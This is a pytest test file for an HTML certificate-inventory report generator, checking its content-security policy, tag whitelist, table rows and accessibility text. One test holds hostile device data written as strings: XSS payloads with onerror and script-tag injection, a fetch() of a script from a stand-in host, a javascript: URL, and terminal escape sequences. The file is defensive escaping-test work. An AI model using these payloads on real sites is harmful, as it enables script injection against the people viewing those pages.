"""The page: complete, self-contained, inert whatever devices say."""

from __future__ import annotations

import base64
import hashlib
import re
from typing import Any

import pytest
from support.certificates import NOON
from support.fleets import hostile_device, many_devices, twelve_devices
from support.html_pages import Page
from support.inventories import device, document_of, invented, placement, reference, served

from netpki.frontends.reports.html import html_page

ADDRESS = "http://192.0.2.1:8080/"


def page_of(document: dict[str, Any]) -> Page:
    return Page(html_page(document, now=NOON))


def test_the_same_inventory_gives_the_same_page() -> None:
    document = twelve_devices()
    assert html_page(document, now=NOON) == html_page(document, now=NOON)


def test_the_policy_allows_nothing_but_its_own_style_and_script() -> None:
    text = html_page(twelve_devices(), now=NOON)
    digests = []
    for element in ("style", "script"):
        (content,) = re.findall(f"<{element}>(.*?)</{element}>", text, re.DOTALL)
        digest = base64.b64encode(hashlib.sha256(content.encode()).digest()).decode()
        digests.append(f"{element}-src 'sha256-{digest}'")
    (policy,) = [
        found["content"]
        for found in Page(text).tags("meta")
        if found.get("http-equiv") == "Content-Security-Policy"
    ]
    assert policy == (
        f"default-src 'none'; {digests[0]}; {digests[1]}; img-src data:; "
        "base-uri 'none'; form-action 'none'"
    )
    assert text.index("Content-Security-Policy") < text.index("<style>")


@pytest.mark.parametrize("document", [twelve_devices(), many_devices(60), hostile_device(ADDRESS)])
def test_no_element_runs_or_loads_anything(document: dict[str, Any]) -> None:
    page = page_of(document)
    assert [len(page.tags(name)) for name in ("script", "style", "link")] == [1, 1, 1]
    assert {tag for tag, _ in page.elements} <= {
        *("html", "head", "meta", "title", "link", "style", "script", "body", "header", "nav"),
        *("main", "section", "div", "p", "ul", "li", "h1", "h2", "b", "strong", "span", "small"),
        *("a", "input", "button", "table", "thead", "tbody", "tr", "th", "td"),
        *("svg", "defs", "pattern", "g", "path", "rect", "circle", "text", "desc"),
    }
    for tag, attributes in page.elements:
        assert not [name for name in attributes if name.startswith("on") or name == "style"]
        assert not attributes.keys() & {"src", "srcset", "action", "xlink:href", "data"}
        if tag == "link":
            assert attributes == {"rel": "icon", "href": "data:,"}
        elif "href" in attributes:
            assert re.fullmatch(r"#[a-z]+", attributes["href"] or "")


def test_what_a_hostile_device_says_is_there_as_text() -> None:
    page = page_of(hostile_device(ADDRESS))
    (row,) = page.rows["certificates"][1:]
    assert row[3] == (
        f'CN="><img src={ADDRESS}subject onerror=alert(1)>,O=</script><script>alert(2);'
        f"fetch('{ADDRESS}script')</script>also javascript:alert(3)//{ADDRESS}"
    )
    assert row[1].startswith("?]0;owned??[2J?gnp.exe????next, ")
    assert page.rows["gaps"][1][4] == "?]0;owned??[2J?gnp.exe????next"
    assert all(
        part.isprintable() or not part.strip() for part in page.text if part.count("\n") < 5
    )


def test_every_table_has_every_row() -> None:
    page = page_of(twelve_devices())
    rows = {name: len(found) - 1 for name, found in page.rows.items()}
    assert rows == {
        "gaps": 3,
        "certificates": 30,
        "uses": 20,
        "keys": 15,
        "served": 4,
        "trustpoints": 20,
        "devices": 12,
    }
    assert {len(row) for row in page.rows["certificates"]} == {13}


def test_a_row_of_the_certificates() -> None:
    root = invented("CN=CA", NOON.replace(year=2030), ca=True)
    leaf = invented("CN=r1", NOON.replace(day=30), root)
    leaf |= {"names": ["r1.example.net"], "fingerprint_sha256": "AB" * 32, "serial_number": "0A"}
    found = device(
        "r1",
        certificates=[placement(leaf, "identity", "WAN", "LAN", key_label="wan", saved=False)],
        references=[
            reference("LAN", "https-server", "ip http secure-trustpoint LAN"),
            reference("wan", "ssh", "ip ssh rsa keypair-name wan", target="key"),
        ],
    )
    page = page_of(document_of([found], [root, leaf]))
    assert page.rows["certificates"][1] == [
        *("r1", "WAN, LAN", "identity", "CN=r1also r1.example.net", "8 days"),
        *("2026-11-30 12:00", "https-server, ssh", "no", "CN=CA", "RSA 2048", "sha256"),
        *("0A", "AB" * 32),
    ]
    (words,) = [
        row["data-words"] for row in page.tags("tr") if "is:soon" in (row.get("data-words") or "")
    ]
    assert words == (
        "is:soon ends:2026-11-30 is:within-90 is:unsaved "
        f"by:{root['fingerprint_sha256'][:16].lower()}"
    )


def test_what_no_source_tells_is_said_never_left_blank() -> None:
    shown = invented("CN=r1", None) | {
        **dict.fromkeys(("fingerprint_sha256", "serial_number", "signature_hash", "key_type")),
        **dict.fromkeys(("key_bits", "self_signed", "issuer", "subject")),
    }
    held = placement(shown, "identity", saved=None)
    page = page_of(document_of([device("r1", certificates=[held], clock=None)], [shown]))
    (row,) = page.rows["certificates"][1:]
    assert row == ["r1", "—", "identity", *["not known"] * 3, "—", *["not known"] * 6]
    assert all(cell for row in page.rows["devices"] for cell in row)


def test_gaps_are_announced_on_top_and_listed_before_the_certificates() -> None:
    text = html_page(twelve_devices(), now=NOON)
    assert "On 2 devices something was not reached or not understood: 3 gaps" in text
    assert text.index("This inventory is not complete") < text.index('<section id="timeline"')
    assert text.index('<section id="gaps"') < text.index('<section id="certificates"')
    assert "<table data-whole>" in text
    assert "1 certificate not drawn: no source tells the end." in text


def test_without_gaps_nothing_is_announced() -> None:
    text = html_page(document_of([device("r1")], []), now=NOON)
    assert "not complete" not in text
    assert "Everything was reached and understood." in text


def test_a_device_that_could_not_be_read_is_a_gap_whoever_forgot_to_say_so() -> None:
    page = page_of(document_of([device("r1", status="unreachable")], []))
    assert page.rows["gaps"][1] == ["r1", "Nothing could be read.", "device", "—", "—"]
    assert "not complete" in html_page(
        document_of([device("r1", status="unreachable")], []), now=NOON
    )


def test_an_inventory_of_nothing_is_a_page_too() -> None:
    page = page_of(document_of([], []))
    assert "".join(page.text).count("No certificate was found.") == 1
    assert not page.rows


def test_pictures_are_described_for_those_who_do_not_see_them() -> None:
    text = html_page(twelve_devices(), now=NOON)
    assert (
        '<desc id="timeline-desc">Bars from the first to the last moment of validity, the first '
        "to end on top: 2 expired, 2 ends within 30 days, 2 ends within 90 days, 14 ends later, "
        "1 end not known. Now is 2026-11-22.</desc>"
    ) in text
    assert (
        '<desc id="chains-desc">Anchors stand left, what hangs from them to their right: '
        "9 anchors, 1 issuing CA, 11 certificates, 2 missing issuers.</desc>"
    ) in text


@pytest.mark.parametrize(
    ("verdict", "words"),
    [
        ("as_stored", "as stored"),
        ("other_stored", "another stored one"),
        ("not_stored", "not stored on the device"),
        ("unknown", "not known"),
    ],
)
def test_what_is_served_is_told_beside_what_is_stored(verdict: str, words: str) -> None:
    one, two = invented("CN=one", NOON), invented("CN=two", NOON)
    seen = served([one], expected=two["id"], verdict=verdict, trustpoint="TP", message="Why.")
    page = page_of(document_of([device("r1", served=[seen])], [one, two]))
    assert page.rows["served"][1] == [
        *("r1", "https", "192.0.2.10", "443"),
        f"one{one['fingerprint_sha256'][:16].lower()}",
        *("today", "TP"),
        f"two{two['fingerprint_sha256'][:16].lower()}",
        *(words, "Why."),
    ]


def test_the_next_end_of_a_device_does_not_hide_behind_what_is_over() -> None:
    ends = {"old": NOON.replace(year=2020), "next": NOON.replace(day=25), "last": None}
    made = [invented(f"CN={name}", end) for name, end in ends.items()]
    held = [placement(found, "identity", "TP") for found in made]
    page = page_of(document_of([device("r1", certificates=held)], made))
    assert page.rows["devices"][1][8] == "3 days1 expired"
